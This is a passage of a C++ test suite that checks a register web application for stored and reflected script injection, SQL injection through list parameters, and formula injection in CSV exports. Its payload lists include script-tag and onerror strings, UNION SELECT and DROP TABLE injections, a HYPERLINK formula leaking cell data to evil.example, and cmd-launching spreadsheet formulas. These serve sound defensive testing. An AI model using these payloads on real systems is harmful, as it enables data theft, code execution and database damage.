// The automated security suite: script injection (stored and reflected), SQL injection through
// list parameters, spreadsheet-formula injection in CSV exports, and the security headers of
// every kind of response. The register cases are generated from the register descriptions
// (domain::AllRegisters() and each spec's fields), so a register added later is covered without
// touching this file; the pages beyond the generic register pages (overview, SWOT analysis,
// current scope, audit trail: http/web/context_pages.cc) are listed here by hand.
#include <sqlite3.h>

#include <algorithm>
#include <map>
#include <optional>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "api_fixture.h"
#include "app/record_codec.h"
#include "base/text.h"
#include "domain/registers.h"

namespace rampart::testing {
namespace {

using namespace std::string_literals;
using domain::FieldSpec;
using domain::FieldType;
using domain::RegisterSpec;

// ---------------------------------------------------------------------------------------------
// Payloads

// A script-injection payload; `raw` are the fragments that must never reach a page and `escaped`
// the form the page must show instead (text and attribute values are escaped alike:
// & < > " ' as &amp; &lt; &gt; &quot; &#39;).
struct XssPayload {
  std::string value;
  std::vector<std::string> raw;
  std::string escaped;
};

const std::vector<XssPayload>& XssPayloads() {
  static const std::vector<XssPayload> kPayloads = {
      {"<script>alert(1)</script>", {"<script>alert(1)"}, "&lt;script&gt;alert(1)&lt;/script&gt;"},
      {"\"><img src=x onerror=alert(1)>",
       {"<img src=x onerror"},
       "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"},
      {"'><svg onload=alert(1)>", {"<svg onload"}, "&#39;&gt;&lt;svg onload=alert(1)&gt;"},
      // Nothing to escape: harmless as text or as a form field's value, it must never become the
      // target of a link, a resource or a form.
      {"javascript:alert(1)",
       {"href=\"javascript:", "src=\"javascript:", "action=\"javascript:"},
       "javascript:alert(1)"},
      {"</textarea><script>alert(2)</script>",
       {"</textarea><script>"},
       "&lt;/textarea&gt;&lt;script&gt;alert(2)&lt;/script&gt;"},
      // Template syntax is shown as typed, never evaluated.
      {"{{7*7}} ${7*7} <%= 7*7 %>", {"<%="}, "{{7*7}} ${7*7} &lt;%= 7*7 %&gt;"},
  };
  return kPayloads;
}

// Values that a spreadsheet would run as a formula if a cell started with them.
const std::vector<std::string>& FormulaPayloads() {
  static const std::vector<std::string> kPayloads = {
      "=1+1",
      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
  };
  return kPayloads;
}

// What list parameters receive in the SQL-injection cases.
const std::vector<std::string>& SqlPayloads() {
  static const std::vector<std::string> kPayloads = {
      "' OR '1'='1",
      "' OR 1=1 --",
      "1; DROP TABLE users; --",
      "id DESC; --",
      "\") OR 1=1 --",
      "%' --",
      "%",
      "_",
      "*",
      "\\",
      "\"unterminated",
      "NEAR(a b)",
      "title:x OR 1",
      "'; SELECT sqlite_version(); --",
      "' UNION SELECT username, password_hash FROM users --",
      "\0"s,
      "a\0b' OR 1=1 --"s,
      "\0\0\0"s,
      "\xff\xfe' OR 1=1",                   // not UTF-8
      "\xc3\xbc' OR '\xc3\xbc'='\xc3\xbc",  // ü' OR 'ü'='ü
      "\xf0\x9d\x95\x8f' OR 1=1 --",        // 𝕏' OR 1=1 --
      std::string(3000, 'A') + "' OR 1=1",  // long, but within the request line limit
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(1)>",
  };
  return kPayloads;
}

// A payload as a test message shows it: printable ASCII, at most 60 characters.
std::string Printable(std::string_view s) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  for (unsigned char c : s.substr(0, 60)) {
    if (c >= 0x20 && c < 0x7f) {
      out += static_cast<char>(c);
    } else {
      out += "\\x";
      out += kHex[c >> 4];
      out += kHex[c & 0xf];
    }
  }
  if (s.size() > 60) out += "...(" + std::to_string(s.size()) + " bytes)";
  return out;
}

// UTF-8 text without control characters: what a list parameter may hold.
bool IsPlainText(std::string_view s) {
  return Utf8Length(s) >= 0 && std::none_of(s.begin(), s.end(), [](char c) {
           return static_cast<unsigned char>(c) < 0x20;
         });
}

// ---------------------------------------------------------------------------------------------
// Records generated from a register description

bool IsText(const FieldSpec& f) {
  return f.type == FieldType::kText || f.type == FieldType::kLongText;
}

// Where free text can go in a record: a text field, a list of lines, or a text column of a table
// (its first row).
// Registers written through their own routes (not workflow-only ones such as risk acceptances).
std::vector<const RegisterSpec*> WritableRegisters() {
  std::vector<const RegisterSpec*> out;
  for (const auto* spec : domain::AllRegisters()) {
    if (!spec->workflow_only) out.push_back(spec);
  }
  return out;
}

struct Slot {
  const FieldSpec* field;
  const FieldSpec* column = nullptr;
  std::string Name() const {
    return column == nullptr ? field->name : field->name + "[0]." + column->name;
  }
};

Json SampleRecord(const RegisterSpec& spec, const std::string& text);
Json Place(const Slot& s, Json body, const std::string& value);
bool IsValid(const RegisterSpec& spec, const Json& body);

// The slots that take free text: where a record with a long marked-up text there is valid
// (short references such as a catalogue's "T01", colours and role lists are checked by the
// register's rules and hold no free text).
std::vector<Slot> TextSlots(const RegisterSpec& spec) {
  std::vector<Slot> all = [&] {
    std::vector<Slot> out;
    for (const auto& f : spec.fields) {
      if (f.read_only) continue;
      if (IsText(f) || (f.type == FieldType::kList && f.choices.empty())) out.push_back({&f});
      if (f.type == FieldType::kTable) {
        for (const auto& c : f.columns) {
          if (IsText(c)) out.push_back({&f, &c});
        }
      }
    }
    return out;
  }();
  std::vector<Slot> out;
  const Json sample = SampleRecord(spec, "Sample");
  for (const Slot& slot : all) {
    if (IsValid(spec, Place(slot, sample, "<b>free text</b> " + std::string(60, 'x')))) {
      out.push_back(slot);
    }
  }
  return out;
}

// A value the field accepts on its own.
Json SampleValue(const FieldSpec& f, const std::string& text) {
  switch (f.type) {
    case FieldType::kText:
    case FieldType::kLongText:
      return text;
    case FieldType::kEnum:
      return f.choices.front().value;
    case FieldType::kDate:
      // A measurement cannot be dated after today (app::MetricService).
      return f.name == "measured_on" ? "2020-01-31" : "2031-01-31";
    case FieldType::kColour:
      return "#336699";
    case FieldType::kBool:
      return false;
    case FieldType::kInteger:
      return 1;
    case FieldType::kDecimal:
      return 1.5;
    case FieldType::kList:
      return f.choices.empty() ? Json::array({text}) : Json::array({f.choices.front().value});
    case FieldType::kTable: {
      // A table whose rows must name a person or a record has no sample row: it is left empty.
      for (const auto& c : f.columns) {
        if (c.required && (c.type == FieldType::kUser || c.type == FieldType::kRef ||
                           c.type == FieldType::kRefs)) {
          return Json::array();
        }
      }
      Json row = Json::object();
      for (const auto& c : f.columns) {
        if (c.required || IsText(c)) row[c.name] = SampleValue(c, text);
      }
      return Json::array({row});
    }
    case FieldType::kRef:
      return 1;  // a placeholder: InjectionTest::WithReferences names a record made for it
    case FieldType::kUser:
    case FieldType::kRefs:
      return nullptr;
  }
  return nullptr;
}

// The most code points a one-line text field accepts (register.h: 200 unless set).
int TextLimit(const FieldSpec& f) { return f.max_length > 0 ? f.max_length : 200; }

bool IsValid(const RegisterSpec& spec, const Json& body) {
  std::vector<domain::FieldError> errors;
  (void)domain::ValidateFields(spec, body, domain::WriteMode::kCreate, nullptr, errors);
  return errors.empty();
}

// A record the register accepts: every required field, every text slot holding `text`, and each
// optional enumeration set to the first choice the register's rules accept, so that the record
// also shows where records are grouped by one (the SWOT quadrants).
Json SampleRecord(const RegisterSpec& spec, const std::string& text) {
  Json body = Json::object();
  for (const auto& f : spec.fields) {
    if (f.read_only) continue;
    if (f.type == FieldType::kUser) {
      if (f.required) body[f.name] = 1;  // a placeholder: WithReferences names the caller
      continue;
    }
    if (!f.default_value.is_null() && f.type == FieldType::kTable) {
      body[f.name] = f.default_value;  // a table the register's rules check as a whole
    } else if (f.required || IsText(f) || f.type == FieldType::kList ||
               f.type == FieldType::kTable) {
      body[f.name] = SampleValue(f, text);
    }
  }
  // An optional table the register's rules refuse with sample text (a methodology's matrix
  // cells name levels) is left out.
  for (const auto& f : spec.fields) {
    if (f.required || f.type != FieldType::kTable || IsValid(spec, body)) continue;
    Json without = body;
    without.erase(f.name);
    if (IsValid(spec, without)) body = std::move(without);
  }
  // An optional one-line text the register's rules check against a list (a task's register) is
  // left out too.
  for (const auto& f : spec.fields) {
    if (f.required || f.type != FieldType::kText || IsValid(spec, body)) continue;
    Json without = body;
    without.erase(f.name);
    if (IsValid(spec, without)) body = std::move(without);
  }
  for (const auto& f : spec.fields) {
    if (f.read_only || f.required || f.type != FieldType::kEnum) continue;
    for (const auto& c : f.choices) {
      body[f.name] = c.value;
      if (IsValid(spec, body)) break;
      body.erase(f.name);
    }
  }
  // A date the register's rules ask for (a planned competence record's due date).
  std::vector<domain::FieldError> errors;
  (void)domain::ValidateFields(spec, body, domain::WriteMode::kCreate, nullptr, errors);
  for (const auto& e : errors) {
    const FieldSpec* f = spec.Field(e.field);
    if (f != nullptr && f->type == FieldType::kDate && !body.contains(f->name)) {
      body[f->name] = SampleValue(*f, text);
    }
    // A person the register's rules ask for (an active activity's owner): a placeholder, as for
    // a required one.
    if (f != nullptr && f->type == FieldType::kUser && !body.contains(f->name)) body[f->name] = 1;
  }
  return body;
}

// `body` with `value` in the slot.
Json Place(const Slot& s, Json body, const std::string& value) {
  if (s.column != nullptr) {
    Json table = SampleValue(*s.field, "Sample");
    table[0][s.column->name] = value;
    body[s.field->name] = table;
  } else if (s.field->type == FieldType::kList) {
    body[s.field->name] = Json::array({value});
  } else {
    body[s.field->name] = value;
  }
  return body;
}

// How a table slot's value appears in its export's cell: the naming column's value as it is,
// another column's as "label: value" (app::RecordsToSheet).
std::string TableCellText(const Slot& s, const std::string& value) {
  if (&app::RowNameColumn(*s.field) == s.column) return value;
  return ToLower(s.column->label) + ": " + value;
}

// The slot's value in a record as the API returns it.
Json Read(const Slot& s, const Json& record) {
  const Json& v = record.value(s.field->name, Json());
  if (s.column != nullptr) {
    return v.is_array() && !v.empty() ? v[0].value(s.column->name, Json()) : Json();
  }
  if (s.field->type == FieldType::kList) return v.is_array() && !v.empty() ? v[0] : Json();
  return v;
}

// A record as the register's web form posts it.
std::string FormBody(const RegisterSpec& spec, const Json& body) {
  std::string out;
  auto add = [&](const std::string& name, const std::string& value) {
    out += (out.empty() ? "" : "&") + UrlEncode(name) + "=" + UrlEncode(value);
  };
  auto scalar = [](const Json& v) -> std::optional<std::string> {
    if (v.is_string()) return v.get<std::string>();
    if (v.is_boolean()) return v.get<bool>() ? std::optional<std::string>("true") : std::nullopt;
    if (v.is_number()) return v.dump();
    return std::nullopt;
  };
  for (const auto& f : spec.fields) {
    if (f.read_only || !body.contains(f.name) || body[f.name].is_null()) continue;
    const Json& v = body[f.name];
    if (f.type == FieldType::kTable) {
      for (size_t i = 0; i < v.size(); ++i) {
        for (const auto& c : f.columns) {
          const auto s = scalar(v[i].value(c.name, Json()));
          if (s) add(f.name + "[" + std::to_string(i) + "][" + c.name + "]", *s);
        }
      }
    } else if (f.type == FieldType::kList) {
      std::string lines;
      for (const auto& item : v) lines += item.get<std::string>() + "\n";
      add(f.name, lines);
    } else if (const auto s = scalar(v)) {
      add(f.name, *s);
    }
  }
  return out;
}

bool IsEditable(const RegisterSpec& spec, const Json& record) {
  if (!spec.lifecycle) return true;
  const Json& state = record.value(spec.lifecycle->field, Json());
  return !state.is_string() || spec.lifecycle->IsEditableIn(state.get<std::string>());
}

// ---------------------------------------------------------------------------------------------
// CSV

// RFC 4180. Returns nothing when the text is not well-formed CSV (a quote inside an unquoted
// field, text after a closing quote, an unterminated quoted field).
std::optional<std::vector<std::vector<std::string>>> ParseCsv(std::string_view text) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  std::string field;
  bool quoted = false;
  bool was_quoted = false;
  for (size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c != '"') {
        field += c;
      } else if (i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else {
        quoted = false;
      }
      continue;
    }
    if (c == ',' || (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n')) {
      row.push_back(std::move(field));
      field.clear();
      was_quoted = false;
      if (c == '\r') {
        ++i;
        rows.push_back(std::move(row));
        row.clear();
      }
      continue;
    }
    if (was_quoted) return std::nullopt;  // text after the closing quote
    if (c == '"') {
      if (!field.empty()) return std::nullopt;
      quoted = was_quoted = true;
      continue;
    }
    field += c;
  }
  if (quoted) return std::nullopt;
  if (!field.empty() || !row.empty()) {
    row.push_back(std::move(field));
    rows.push_back(std::move(row));
  }
  return rows;
}

// A parsed export: the cell of record `id` in column `name`.
class CsvExport {
 public:
  explicit CsvExport(std::vector<std::vector<std::string>> rows) : rows_(std::move(rows)) {}
  std::optional<std::string> Cell(int64_t id, const std::string& name) const {
    if (rows_.empty()) return std::nullopt;
    const auto& header = rows_.front();
    const auto col = std::find(header.begin(), header.end(), name);
    if (col == header.end()) return std::nullopt;
    const size_t index = static_cast<size_t>(col - header.begin());
    for (size_t r = 1; r < rows_.size(); ++r) {
      if (!rows_[r].empty() && rows_[r][0] == std::to_string(id) && index < rows_[r].size()) {
        return rows_[r][index];
      }
    }
    return std::nullopt;
  }
  const std::vector<std::vector<std::string>>& rows() const { return rows_; }

 private:
  std::vector<std::vector<std::string>> rows_;
};

// ---------------------------------------------------------------------------------------------
// The fixture: a signed-in browser beside the API token.

class InjectionTest : public SignedInTest {
 protected:
  // `body` with each required reference naming a record made for it in its register (instead of
  // the sample's placeholder), and each person named the caller (a competence record's).
  Json WithReferences(const RegisterSpec& spec, Json body) {
    for (const auto& f : spec.fields) {
      if (f.type == FieldType::kUser && (f.required || body.contains(f.name))) {
        body[f.name] = Body(Get("/api/v1/auth/me"))["user_id"];
        continue;
      }
      if (f.type != FieldType::kRef || !f.required) continue;
      const RegisterSpec* target = domain::FindRegisterByType(f.ref);
      if (target == nullptr) continue;
      auto r = Post("/api/v1/" + target->path,
                    WithReferences(*target, SampleRecord(*target, "Referenced")));
      if (!r || r->status != 201) {
        ADD_FAILURE() << "cannot make the " << f.ref << " that " << spec.type << " refers to";
        continue;
      }
      body[f.name] = Body(r)["id"];
    }
    return body;
  }

  // `body` with its title numbered (unless the slot is the title), so that registers whose titles
  // are unique in the organisation (ISMS processes) take one record per slot and payload.
  Json Numbered(const RegisterSpec& spec, const Slot& slot, Json body) {
    const FieldSpec* title = spec.Field(spec.title_field);
    if (title == nullptr || title->type != FieldType::kText || !body.contains(title->name) ||
        !body[title->name].is_string() || (slot.column == nullptr && slot.field == title)) {
      return body;
    }
    body[title->name] = body[title->name].get<std::string>() + " " + std::to_string(++numbered_);
    return body;
  }

  // No payload appears unescaped anywhere in `body`.
  static void ExpectNoRawPayload(const std::string& body, const std::string& where) {
    for (const auto& p : XssPayloads()) {
      for (const auto& raw : p.raw) {
        EXPECT_EQ(body.find(raw), std::string::npos) << where << ": unescaped " << raw;
      }
    }
  }

  // The pages beyond the generic register pages (context_pages.cc), redirects followed once.
  void ExpectSpecialPagesEscaped(const std::string& context) {
    for (const std::string path : {"/", "/audit", "/audit?verify=1", "/context-issues/swot",
                                   "/scope/current", "/competence-matrix"}) {
      auto r = Page(path);
      ASSERT_TRUE(r) << path;
      if (r->status == 303) r = Page(r->get_header_value("Location"));
      ASSERT_TRUE(r) << path;
      EXPECT_EQ(r->status, 200) << context << " " << path;
      ExpectNoRawPayload(r->body, context + " " + path);
    }
  }

  std::optional<CsvExport> Export(const RegisterSpec& spec) {
    auto r = Get("/api/v1/" + spec.path + "/export?format=csv");
    EXPECT_TRUE(r);
    if (!r) return std::nullopt;
    EXPECT_EQ(r->status, 200) << r->body;
    EXPECT_EQ(r->get_header_value("Content-Type"), "text/csv; charset=utf-8");
    EXPECT_EQ(r->get_header_value("Content-Disposition").rfind("attachment;", 0), 0u);
    auto rows = ParseCsv(r->body);
    EXPECT_TRUE(rows.has_value()) << "the export is not well-formed CSV:\n" << r->body;
    if (!rows) return std::nullopt;
    return CsvExport(std::move(*rows));
  }

 private:
  int numbered_ = 0;
};

std::string SpecName(const ::testing::TestParamInfo<const RegisterSpec*>& info) {
  return info.param->type;
}

// ---------------------------------------------------------------------------------------------
// Script injection, for every register

class RegisterXss : public InjectionTest,
                    public ::testing::WithParamInterface<const RegisterSpec*> {};

// Every text slot of every register holds each payload in turn, created and then changed through
// the API: the JSON API returns it verbatim, every page that shows it escapes it (list, record
// with its history, edit form, the special pages), and the CSV export holds it intact.
TEST_P(RegisterXss, StoredTextIsEscapedOnEveryPageVerbatimInJsonAndIntactInCsv) {
  const RegisterSpec& spec = *GetParam();
  const std::string api = "/api/v1/" + spec.path;
  const Json sample = WithReferences(spec, SampleRecord(spec, "Sample"));
  ASSERT_TRUE(IsValid(spec, sample))
      << "cannot generate a valid " << spec.type << ": " << sample.dump();
  struct Written {
    int64_t id;
    Slot slot;
    std::string value;
  };
  std::vector<Written> written;
  for (const Slot& slot : TextSlots(spec)) {
    const bool listed =
        slot.column == nullptr && slot.field->type != FieldType::kTable &&
        (slot.field->name == spec.title_field ||
         std::count(spec.list_columns.begin(), spec.list_columns.end(), slot.field->name) > 0);
    for (const auto& p : XssPayloads()) {
      const std::string where = spec.type + "." + slot.Name() + " = " + p.value;
      auto created = Post(api, Numbered(spec, slot, Place(slot, sample, p.value)));
      ASSERT_TRUE(created) << where;
      ASSERT_EQ(created->status, 201) << where << ": " << created->body;
      EXPECT_EQ(created->get_header_value("Content-Type"), "application/json") << where;
      const Json rec = Body(created);
      EXPECT_EQ(Read(slot, rec), p.value) << where;
      const int64_t id = rec["id"].get<int64_t>();
      const std::string item = "/" + spec.path + "/" + std::to_string(id);

      // A change, so that the history shows the value both as "before" and in the record.
      std::string value = p.value;
      const bool editable = IsEditable(spec, rec);
      if (editable) {
        value = p.value + " (revised)";
        auto changed =
            Patch(api + "/" + std::to_string(id), Place(slot, Json::object(), value), "\"1\"");
        ASSERT_EQ(changed->status, 200) << where << ": " << changed->body;
      }
      auto read = Get(api + "/" + std::to_string(id));
      ASSERT_EQ(read->status, 200) << where;
      EXPECT_EQ(read->get_header_value("Content-Type"), "application/json") << where;
      EXPECT_EQ(Read(slot, Body(read)), value) << where;
      auto history = Get(api + "/" + std::to_string(id) + "/history");
      ASSERT_EQ(history->status, 200) << where;
      const Json events = Body(history)["data"];
      ASSERT_EQ(events.size(), editable ? 2u : 1u) << where;
      EXPECT_EQ(Read(slot, Json{{slot.field->name, events[0]["diff"][slot.field->name]["to"]}}),
                p.value)
          << where;
      written.push_back({id, slot, value});

      auto detail = Page(item);
      ASSERT_EQ(detail->status, 200) << where;
      ExpectNoRawPayload(detail->body, where + " on " + item);
      EXPECT_NE(detail->body.find(p.escaped), std::string::npos) << where << " on " << item;
      auto edit = Page(item + "/edit");
      if (editable) {
        ASSERT_EQ(edit->status, 200) << where;
        ExpectNoRawPayload(edit->body, where + " on the edit form");
        EXPECT_NE(edit->body.find(p.escaped), std::string::npos) << where << " on the edit form";
      } else {
        EXPECT_EQ(edit->status, 303) << where;
      }
    }
    // The list, as it opens and newest first (so that this slot's records are on the first page).
    for (const std::string& list : {"/" + spec.path, "/" + spec.path + "?sort=-id"}) {
      auto page = Page(list);
      ASSERT_EQ(page->status, 200) << list;
      ExpectNoRawPayload(page->body, spec.type + "." + slot.Name() + " on " + list);
      if (!listed || list == "/" + spec.path) continue;
      for (const auto& p : XssPayloads()) {
        EXPECT_NE(page->body.find(p.escaped), std::string::npos)
            << spec.type << "." << slot.Name() << " = " << p.value << " on " << list;
      }
    }
  }
  ExpectSpecialPagesEscaped(spec.type);

  auto csv = Export(spec);
  ASSERT_TRUE(csv.has_value());
  for (const auto& w : written) {
    const auto cell = csv->Cell(w.id, w.slot.field->name);
    ASSERT_TRUE(cell.has_value()) << spec.type << " " << w.id << " " << w.slot.Name();
    if (w.slot.column != nullptr) {
      // A table is one line per row: its naming column, then "label: value" for the others.
      EXPECT_NE(cell->find(TableCellText(w.slot, w.value)), std::string::npos)
          << spec.type << "." << w.slot.Name() << ": " << *cell;
    } else {
      EXPECT_EQ(*cell, w.value) << spec.type << "." << w.slot.Name();
    }
  }
}

// Text that comes back in a page without being stored: query parameters a form is pre-filled
// from, a rejected submission shown again with its input, an error message quoting a value.
TEST_P(RegisterXss, ReflectedTextIsEscaped) {
  const RegisterSpec& spec = *GetParam();
  const Json sample = WithReferences(spec, SampleRecord(spec, "Sample"));
  // The field made invalid so the submission is refused: a one-line text field made longer than
  // it accepts, else (a register without one, such as the commitments log) a date no calendar has.
  const FieldSpec* trigger = nullptr;
  for (const auto& f : spec.fields) {
    if (trigger == nullptr && !f.read_only && f.type == FieldType::kText && TextLimit(f) < 2000) {
      trigger = &f;
    }
  }
  for (const auto& f : spec.fields) {
    if (trigger == nullptr && !f.read_only && f.type == FieldType::kDate) trigger = &f;
  }
  ASSERT_NE(trigger, nullptr) << spec.type << " has no one-line text or date field to refuse";
  for (const Slot& slot : TextSlots(spec)) {
    for (const auto& p : XssPayloads()) {
      const std::string where = spec.type + "." + slot.Name() + " = " + p.value;
      // /new?field=... pre-fills the form (top-level fields only).
      if (slot.column == nullptr) {
        auto page = Page("/" + spec.path + "/new?" + UrlEncode(slot.field->name) + "=" +
                         UrlEncode(p.value));
        ASSERT_EQ(page->status, 200) << where;
        ExpectNoRawPayload(page->body, where + " pre-filled");
        EXPECT_NE(page->body.find(p.escaped), std::string::npos) << where << " pre-filled";
      }
      // Refused, and the form comes back with the input: a one-line text field is made longer
      // than it accepts (the slot itself when it is that field). Long text cannot be the one
      // refused: cpp-httplib answers 413 to a form body over 8 KiB.
      Json body = Place(slot, sample, p.value);
      const bool slot_is_trigger = slot.column == nullptr && slot.field == trigger;
      body[trigger->name] = trigger->type == FieldType::kDate
                                ? std::string("2031-02-30")
                                : (slot_is_trigger ? p.value + " " : std::string()) +
                                      std::string(TextLimit(*trigger) + 1, 'x');
      auto refused = Submit("/" + spec.path, FormBody(spec, body));
      ASSERT_EQ(refused->status, 400) << where;
      ExpectNoRawPayload(refused->body, where + " refused");
      EXPECT_NE(refused->body.find(p.escaped), std::string::npos) << where << " refused";
    }
  }
  // A value that is not one of an enumeration's choices is quoted in the error message.
  for (const auto& f : spec.fields) {
    if (f.read_only || f.type != FieldType::kEnum) continue;
    for (const auto& p : XssPayloads()) {
      const std::string where = spec.type + "." + f.name + " = " + p.value;
      Json body = sample;
      body[f.name] = p.value;
      auto api = Post("/api/v1/" + spec.path, body);
      ASSERT_EQ(api->status, 400) << where;
      EXPECT_EQ(Error(api), "invalid_argument/" + f.name) << where;
      EXPECT_NE(Body(api)["error"]["message"].get<std::string>().find(p.value), std::string::npos)
          << where;
      auto page = Submit("/" + spec.path, FormBody(spec, body));
      ASSERT_EQ(page->status, 400) << where;
      ExpectNoRawPayload(page->body, where + " in the error summary");
      EXPECT_NE(page->body.find(p.escaped), std::string::npos) << where << " in the error summary";
    }
  }
  EXPECT_EQ(Body(Get("/api/v1/" + spec.path + "?total=true"))["total"], 0);
}

INSTANTIATE_TEST_SUITE_P(Injection, RegisterXss, ::testing::ValuesIn(WritableRegisters()),
                         SpecName);

// ---------------------------------------------------------------------------------------------
// Spreadsheet formulas in CSV exports, for every register

class RegisterCsv : public InjectionTest,
                    public ::testing::WithParamInterface<const RegisterSpec*> {};

// A cell that starts with = + - @ is exported with a leading apostrophe, so a spreadsheet shows
// it as text instead of running it; so is a table whose first row's naming column is one.
TEST_P(RegisterCsv, ExportsFormulasAsText) {
  const RegisterSpec& spec = *GetParam();
  const Json sample = WithReferences(spec, SampleRecord(spec, "Sample"));
  struct Written {
    int64_t id;
    Slot slot;
    std::string value;
  };
  std::vector<Written> written;
  for (const Slot& slot : TextSlots(spec)) {
    for (const auto& formula : FormulaPayloads()) {
      auto r = Post("/api/v1/" + spec.path, Numbered(spec, slot, Place(slot, sample, formula)));
      ASSERT_EQ(r->status, 201) << spec.type << "." << slot.Name() << " = " << formula << ": "
                                << r->body;
      EXPECT_EQ(Read(slot, Body(r)), formula);  // stored as typed
      written.push_back({Body(r)["id"].get<int64_t>(), slot, formula});
    }
  }
  auto csv = Export(spec);
  ASSERT_TRUE(csv.has_value());
  for (const auto& w : written) {
    const auto cell = csv->Cell(w.id, w.slot.field->name);
    ASSERT_TRUE(cell.has_value()) << spec.type << " " << w.id << " " << w.slot.Name();
    ASSERT_FALSE(cell->empty()) << spec.type << " " << w.id << " " << w.slot.Name();
    if (w.slot.column != nullptr) {
      // The first row's naming column starts the cell, neutralised; another column is further in.
      const std::string text = TableCellText(w.slot, w.value);
      if (&app::RowNameColumn(*w.slot.field) == w.slot.column) {
        EXPECT_EQ(cell->rfind("'" + text, 0), 0u) << *cell;
      } else {
        EXPECT_NE(cell->find(text), std::string::npos) << *cell;
      }
    } else {
      EXPECT_EQ(*cell, "'" + w.value) << spec.type << "." << w.slot.Name();
    }
  }
  for (const auto& row : csv->rows()) {
    for (const auto& cell : row) {
      EXPECT_TRUE(cell.empty() || std::string_view("=+-@").find(cell.front()) == std::string::npos)
          << "a live formula in the " << spec.type << " export: " << cell;
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Injection, RegisterCsv, ::testing::ValuesIn(WritableRegisters()),
                         SpecName);

// ---------------------------------------------------------------------------------------------
// SQL injection through list parameters, for every register

// What a list request must answer: 400 naming the parameter, or 200 with between `min` and `max`
// records, each one of the register's records; or either (`or_error`).
struct Outcome {
  int status = 200;
  std::string error;
  size_t min = 0;
  size_t max = 0;
  std::string or_error;
};
Outcome Refused(const std::string& parameter) { return {400, "invalid_argument/" + parameter}; }
Outcome Lists(size_t n) { return {200, "", n, n}; }

class RegisterSql : public InjectionTest,
                    public ::testing::WithParamInterface<const RegisterSpec*> {
 protected:
  static constexpr size_t kSeeded = 3;

  void SetUp() override {
    InjectionTest::SetUp();
    const RegisterSpec& spec = *GetParam();
    for (size_t i = 0; i < kSeeded; ++i) {
      auto r =
          Post("/api/v1/" + spec.path,
               WithReferences(spec, SampleRecord(spec, "Seed record " + std::to_string(i + 1))));
      ASSERT_EQ(r->status, 201) << r->body;
      seeded_.insert(Body(r)["id"].get<int64_t>());
    }
  }

  // Every table and its row count, read straight from the database file.
  std::map<std::string, int64_t> Census() {
    std::map<std::string, int64_t> out;
    sqlite3* db = nullptr;
    EXPECT_EQ(sqlite3_open_v2(db_path_.c_str(), &db, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK);
    std::vector<std::string> tables;
    sqlite3_stmt* st = nullptr;
    EXPECT_EQ(sqlite3_prepare_v2(db, "SELECT name FROM sqlite_master WHERE type = 'table'", -1, &st,
                                 nullptr),
              SQLITE_OK);
    while (sqlite3_step(st) == SQLITE_ROW) {
      tables.emplace_back(reinterpret_cast<const char*>(sqlite3_column_text(st, 0)));
    }
    sqlite3_finalize(st);
    for (const auto& t : tables) {
      EXPECT_EQ(
          sqlite3_prepare_v2(db, ("SELECT count(*) FROM \"" + t + "\"").c_str(), -1, &st, nullptr),
          SQLITE_OK)
          << t;
      out[t] = sqlite3_step(st) == SQLITE_ROW ? sqlite3_column_int64(st, 0) : -1;
      sqlite3_finalize(st);
    }
    sqlite3_close(db);
    return out;
  }

  // Sends `query` to the register's API list and its web list page.
  void Expect(const std::string& query, const Outcome& want, const std::string& label) {
    const RegisterSpec& spec = *GetParam();
    ++cases_;
    const std::string where = spec.type + " ?" + label;
    auto api = Get("/api/v1/" + spec.path + "?" + query);
    ASSERT_TRUE(api) << where;
    const bool alternative = !want.or_error.empty() && api->status == 400;
    if (alternative) {
      EXPECT_EQ(Error(api), want.or_error) << where;
    } else if (want.status == 400) {
      EXPECT_EQ(api->status, 400) << where << ": " << api->body.substr(0, 300);
      EXPECT_EQ(Error(api), want.error) << where;
    } else {
      ASSERT_EQ(api->status, 200) << where << ": " << api->body.substr(0, 300);
      const Json data = Body(api)["data"];
      EXPECT_GE(data.size(), want.min) << where;
      EXPECT_LE(data.size(), want.max) << where;
      for (const auto& rec : data) {
        EXPECT_EQ(seeded_.count(rec["id"].get<int64_t>()), 1u) << where;
      }
    }
    auto page = Page("/" + spec.path + "?" + query);
    ASSERT_TRUE(page) << where;
    EXPECT_EQ(page->status, api->status) << where << " (web list page)";
    ExpectNoRawPayload(page->body, where + " (web list page)");
  }

  std::set<int64_t> seeded_;
  int cases_ = 0;
};

TEST_P(RegisterSql, ListParametersNeverReachTheSqlAsCode) {
  const RegisterSpec& spec = *GetParam();
  const auto before = Census();
  ASSERT_FALSE(before.empty());
  const auto q = [](const std::string& name, const std::string& value) {
    return UrlEncode(name) + "=" + UrlEncode(value);
  };

  // Filters: a value that is not one of the field's values is refused; free text matches
  // nothing (no seeded record holds a payload).
  for (const auto& f : spec.fields) {
    if (!f.filterable) continue;
    for (const auto& p : SqlPayloads()) {
      const Outcome want = !IsPlainText(p) || !IsText(f) ? Refused(f.name) : Lists(0);
      Expect(q(f.name, p), want, f.name + "=" + Printable(p));
    }
  }

  // Sorting: by every sortable column, both ways; anything else is refused.
  std::vector<std::string> sortable = {"id", "created_at", "updated_at"};
  for (const auto& f : spec.fields) {
    if (f.sortable) sortable.push_back(f.name);
  }
  for (const auto& s : sortable) {
    Expect(q("sort", s), Lists(kSeeded), "sort=" + s);
    Expect(q("sort", "-" + s), Lists(kSeeded), "sort=-" + s);
    for (const std::string& junk : {s + " DESC; --", s + ", (SELECT 1)", "-" + s + "'",
                                    s + " COLLATE NOCASE", s + "; DROP TABLE users; --"}) {
      Expect(q("sort", junk), Refused("sort"), "sort=" + Printable(junk));
    }
  }
  for (const auto& p : SqlPayloads()) Expect(q("sort", p), Refused("sort"), "sort=" + Printable(p));

  // Search: finds the seeded records by their text, and matches none of the payloads; the
  // parameter is `q`, so `search` is an unknown filter.
  Expect(q("q", "Seed record"), Lists(kSeeded), "q=Seed record");
  for (const auto& p : SqlPayloads()) {
